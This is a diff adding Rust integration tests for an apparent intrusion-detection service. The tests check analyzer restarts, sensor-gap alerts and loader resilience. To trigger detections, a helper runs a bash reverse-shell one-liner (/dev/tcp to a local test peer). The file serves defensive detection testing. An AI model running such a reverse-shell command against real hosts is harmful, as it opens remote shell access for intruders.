@@ -1,0 +1,165 @@
+//! An analyzer that is killed and started again under a loader that goes on.
+
+use std::{
+    fs,
+    io::{BufRead, BufReader},
+    os::fd::{AsRawFd, OwnedFd},
+    path::PathBuf,
+    process::{Child, Command, Stdio},
+    time::Duration,
+};
+
+use nix::sys::{
+    signal::Signal,
+    socket::{AddressFamily, Backlog, SockFlag, SockType, UnixAddr, bind, listen, socket},
+};
+use sentinel_ipc::channel::Channel;
+use sentinel_tests::{
+    bed::Bed,
+    peer::Peer,
+    rig,
+    sentinel::{PATIENCE, alerts, is_running, program, send, within},
+};
+use serde_json::Value;
+
+/// A loader that waits for analyzers.
+struct Service {
+    loader: Child,
+    socket: PathBuf,
+    log: PathBuf,
+}
+
+impl Service {
+    fn start(bed: &Bed) -> Self {
+        let path = bed.path("loader.sock");
+        let flags = SockFlag::SOCK_CLOEXEC;
+        let listener: OwnedFd =
+            socket(AddressFamily::Unix, SockType::SeqPacket, flags, None).unwrap();
+        bind(listener.as_raw_fd(), &UnixAddr::new(&path).unwrap()).unwrap();
+        listen(&listener, Backlog::new(4).unwrap()).unwrap();
+        let (loaders_enforcer, _) = Channel::raw_pair().unwrap();
+        let loader = rig::command("sentinel-loader", listener, loaders_enforcer)
+            .arg(format!("--scope-cgroup={}", bed.cgroup().display()))
+            .spawn()
+            .unwrap();
+        Self { loader, socket: path, log: bed.path("alerts.json") }
+    }
+
+    /// Starts an analyzer and waits until it is attached.
+    fn analyzer(&self) -> Child {
+        let mut child = Command::new(program().with_file_name("sentinel-analyzer"))
+            .arg(format!("--loader={}", self.socket.display()))
+            .arg(format!("--grimoire-log={}", self.log.display()))
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+        assert!(lines.any(|line| line.unwrap().contains("hooks attached")));
+        // Kept open and read, so that it can write.
+        std::thread::spawn(move || lines.for_each(drop));
+        child
+    }
+
+    fn alerts(&self, name: &str) -> Vec<Value> {
+        let all = alerts(&self.log).into_iter();
+        all.filter(|alert| alert["pattern_name"] == name).collect()
+    }
+
+    fn finds(&self, name: &str, count: usize) {
+        let found = within(PATIENCE, || self.alerts(name).len() >= count);
+        assert!(found, "{name}: {}", fs::read_to_string(&self.log).unwrap_or_default());
+        assert_eq!(self.alerts(name).len(), count);
+    }
+}
+
+impl Drop for Service {
+    fn drop(&mut self) {
+        let _gone = self.loader.kill();
+        let _reaped = self.loader.wait();
+    }
+}
+
+fn kill(mut analyzer: Child) {
+    send(analyzer.id(), Signal::SIGKILL);
+    analyzer.wait().unwrap();
+}
+
+/// A shell that connects out and stays until its end is called.
+fn reverse_shell(bed: &Bed) -> impl FnOnce() {
+    let peer = Peer::listen("127.0.0.1");
+    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
+    let mut command = bed.command("bash");
+    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut shell = peer.shell();
+    shell.pid();
+    move || {
+        shell.exit();
+        child.wait().unwrap();
+    }
+}
+
+#[test]
+fn a_new_analyzer_goes_on_and_says_how_long_nobody_looked() {
+    let Some(bed) = Bed::new() else { return };
+    let mut service = Service::start(&bed);
+    let first = service.analyzer();
+    reverse_shell(&bed)();
+    service.finds("reverse_shell", 1);
+    assert!(service.alerts("sensor_gap").is_empty());
+    kill(first);
+    std::thread::sleep(Duration::from_millis(700));
+    let second = service.analyzer();
+    service.finds("sensor_gap", 1);
+    let message = service.alerts("sensor_gap")[0]["message"].as_str().unwrap().to_owned();
+    let seconds: f64 = message.split(' ').find_map(|word| word.parse().ok()).unwrap();
+    assert!((0.5..30.0).contains(&seconds), "{message}");
+    reverse_shell(&bed)();
+    service.finds("reverse_shell", 2);
+    kill(second);
+    assert!(service.loader.try_wait().unwrap().is_none(), "the loader goes on");
+}
+
+#[test]
+fn a_shell_that_came_while_nobody_looked_is_found() {
+    let Some(bed) = Bed::new() else { return };
+    let service = Service::start(&bed);
+    kill(service.analyzer());
+    let end = reverse_shell(&bed);
+    let analyzer = service.analyzer();
+    service.finds("reverse_shell", 1);
+    let alert = &service.alerts("reverse_shell")[0];
+    assert!(alert["message"].as_str().unwrap().contains("was running already"), "{alert}");
+    end();
+    kill(analyzer);
+}
+
+#[test]
+fn an_analyzer_that_stops_lets_another_come() {
+    let Some(bed) = Bed::new() else { return };
+    let service = Service::start(&bed);
+    let mut first = service.analyzer();
+    send(first.id(), Signal::SIGTERM);
+    assert!(first.wait().unwrap().success());
+    let second = service.analyzer();
+    reverse_shell(&bed)();
+    service.finds("reverse_shell", 1);
+    kill(second);
+    assert!(is_running(service.loader.id()));
+}
+
+#[test]
+fn one_that_breaks_the_protocol_does_not_take_the_loader_along() {
+    let Some(bed) = Bed::new() else { return };
+    let service = Service::start(&bed);
+    let mut stranger = None;
+    assert!(within(PATIENCE, || {
+        stranger = Channel::connect(&service.socket).ok();
+        stranger.is_some()
+    }));
+    stranger.unwrap().send(&[0xff; 40]).map(drop).unwrap();
+    let analyzer = service.analyzer();
+    reverse_shell(&bed)();
+    service.finds("reverse_shell", 1);
+    kill(analyzer);
+}
